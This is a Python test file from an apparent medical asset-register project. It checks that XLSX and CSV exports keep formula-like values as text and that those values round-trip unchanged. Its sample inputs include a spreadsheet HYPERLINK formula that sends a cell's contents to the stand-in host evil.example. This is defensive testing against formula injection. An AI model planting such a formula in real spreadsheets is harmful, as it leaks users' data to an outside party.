"""Register values that look like spreadsheet formulas stay text in exports and come back exact."""

from __future__ import annotations

import copy
import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from medshield.register.document import (
    export_document,
    import_document,
    read_register,
    write_csv,
    write_json,
    write_xlsx,
)

pytestmark = pytest.mark.django_db

TRICKY = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "+81-3-0000",
    "-",
    "@SUM(A1)",
    "'quoted",
    "'",
]


@pytest.fixture
def tricky(register_doc: dict[str, Any]) -> dict[str, Any]:
    doc = copy.deepcopy(register_doc)
    for asset, value in zip(doc["assets"], TRICKY, strict=False):
        asset["notes"] = value
    doc["assets"][0]["name"] = TRICKY[0]
    import_document(doc)
    return doc


def test_xlsx_keeps_them_as_text_and_round_trips(tricky: dict[str, Any]) -> None:
    first = write_json(export_document())
    workbook = write_xlsx(export_document())
    sheet = load_workbook(io.BytesIO(workbook))["assets"]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    result = import_document(read_register(workbook).document)
    assert not result.changed
    assert write_json(export_document()) == first


def test_csv_guards_them_with_an_apostrophe_and_round_trips(tricky: dict[str, Any]) -> None:
    data = write_csv(export_document())
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert "'" + TRICKY[0] in cells and "''quoted" in cells
    result = import_document(read_register(data, filename="assets.csv").document)
    assert not result.changed
